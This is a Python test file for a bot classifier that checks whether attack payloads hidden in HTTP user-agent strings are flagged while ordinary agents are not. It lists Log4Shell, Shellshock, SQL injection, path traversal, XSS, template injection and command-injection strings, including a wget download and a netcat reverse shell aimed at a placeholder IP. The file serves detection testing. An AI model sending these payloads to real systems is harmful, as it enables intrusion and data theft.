"""Payloads of attacks in a user agent are a class of their own, and ordinary words are not taken for them."""

import pytest

from shardlake.packs.bots.classify import Classifier

CHROME = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36"
)
PAYLOADS = {
    "log4shell": [
        "${jndi:ldap://203.0.113.9:1389/a}",
        "${${lower:j}ndi:${lower:l}${lower:d}ap://203.0.113.9/a}",
        "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://203.0.113.9/a}",
        "${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//203.0.113.9/a}",
        "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://203.0.113.9/a}",
        "${${upper:j}${upper:n}${lower:d}i:dns://203.0.113.9}",
        "%24%7Bjndi:ldap://203.0.113.9/a%7D",
        "${jnd${123%25ff:-${123%25ff:-i:}}ldap://203.0.113.9/a}",
    ],
    "shellshock": [
        "() { :; }; /bin/bash -c 'id'",
        "() { :;}; echo vulnerable",
        "() { ignored;};/usr/bin/wget http://203.0.113.9/x",
        "() { _; } >_[$($())] { echo 93e4r0-CVE-2014-6278: true; echo;echo; }",
    ],
    "SQL injection": [
        "' OR '1'='1",
        "' or 1=1-- -",
        '" OR ""="',
        "1' AND SLEEP(5)#",
        "'; DROP TABLE users;--",
        "' UNION ALL SELECT NULL,NULL,CONCAT(0x7171,0x71)-- -",
        "'/**/UNION/**/SELECT/**/password/**/FROM/**/users",
        "1;WAITFOR DELAY '0:0:5'--",
        "0'XOR(if(now()=sysdate(),sleep(15),0))XOR'Z",
        "-1 OR 2+947-947-1=0+0+0+1 --",
        "' AND extractvalue(1,concat(0x7e,version()))-- ",
        "'||(select 1 from (select pg_sleep(5))x)||'",
        "1 AND 1=(SELECT COUNT(*) FROM information_schema.tables)",
    ],
    "path traversal": [
        "../../../../../../etc/passwd",
        "..%2f..%2f..%2fetc%2fpasswd",
        "..\\..\\..\\windows\\win.ini",
        "....//....//....//etc/shadow",
        "php://filter/convert.base64-encode/resource=index.php",
        "file:///etc/hosts",
        "http://169.254.169.254/latest/meta-data/",
        "/proc/self/environ",
    ],
    "script injection": [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(document.cookie)>",
        "<svg/onload=alert`1`>",
        "javascript:alert(1)",
        "<?php echo md5('x'); ?>",
        '<!--#exec cmd="id"-->',
        "<!ENTITY xxe SYSTEM 'x'>",
    ],
    "command injection": [
        "; wget http://203.0.113.9/bins.sh",
        "|id",
        "`id`",
        "$(whoami)",
        "& ping -n 10 127.0.0.1 &",
        ";cat /var/log/auth.log",
        "; nslookup x.example.com",
        "/bin/sh -c ls",
        "cmd.exe /c dir",
        "powershell -enc SQBFAFgA",
        "nc -e sh 203.0.113.9 4444",
        "system('id');",
    ],
    "template injection": [
        "{{7*7}}",
        "${7*7}",
        "<%= 7*7 %>",
        "#{7*7}",
        "{{config.items()}}",
        "{{''.__class__.__mro__[1].__subclasses__()}}",
        "%{(#_='multipart/form-data')}",
    ],
    "object injection": [
        '}__test|O:21:"JDatabaseDriverMysqli":3:{s:2:"fc";O:17:"JSimplepieFactory":0:{}}',
        'O:8:"stdClass":1:{s:1:"a";i:1;}',
        "*)(uid=*))(|(uid=*",
    ],
    "null byte": ["Chrome\x00.php", "a%00.jpg"],
    "header injection": ["x\r\nX-Injected: 1", "x%0d%0aSet-Cookie:%20a=b"],
}
HARMLESS = [
    f"{CHROME} (Linux; Android 10; Cat S62 Pro)",
    "Opera/9.80 (J2ME/MIDP; Opera Mini/4.2; U; id; ls) Presto/2.8.119 Version/11.10",
    "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; SV1; .NET CLR 1.1.4322 & more; InfoPath.1)",
    "[FBAN/FB4A;FBAV/6.0.0.28.28;FBDM/{density=1.5,width=480,height=800};FBCR/o2 - de;FBDV/HTC One;FBSV/4.3;]",
    "Operating System (Linux) Shop/2.0 (iPhone; iOS 17.1; Scale/3.00)",
    "Mozilla/5.0 (Windows NT 10.0; Microsoft Windows 10.0.19045; en-US) PowerShell/7.3.0",
    "Select & Union Bank/3.1 (iPad; iOS 17.1; Scale/2.00)",
    "rest-client/2.1.0 (linux x86_64) ruby/3.2.2p53",
    "git/2.45.1 (Apple Git-154)",
]


@pytest.fixture(scope="module")
def classifier() -> Classifier:
    return Classifier()


@pytest.mark.parametrize(("name", "payload"), [(name, text) for name, texts in PAYLOADS.items() for text in texts])
def test_a_payload_is_an_attack_alone_and_behind_a_browser(classifier: Classifier, name: str, payload: str) -> None:
    alone, behind = classifier.verdict(payload), classifier.verdict(f"{CHROME} {payload}")
    assert (alone.category, behind.category) == ("attack", "attack")
    assert name in {alone.name, behind.name}


@pytest.mark.parametrize("user_agent", HARMLESS)
def test_ordinary_words_and_signs_are_no_attack(classifier: Classifier, user_agent: str) -> None:
    assert classifier.verdict(user_agent).category != "attack"


@pytest.mark.parametrize("payload", [texts[0] for texts in PAYLOADS.values()])
def test_a_payload_where_the_name_of_a_telephone_stands_is_an_attack(classifier: Classifier, payload: str) -> None:
    text = (
        f"Mozilla/5.0 (Linux; Android 13; {payload}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36"
    )
    assert classifier.verdict(text).category == "attack"
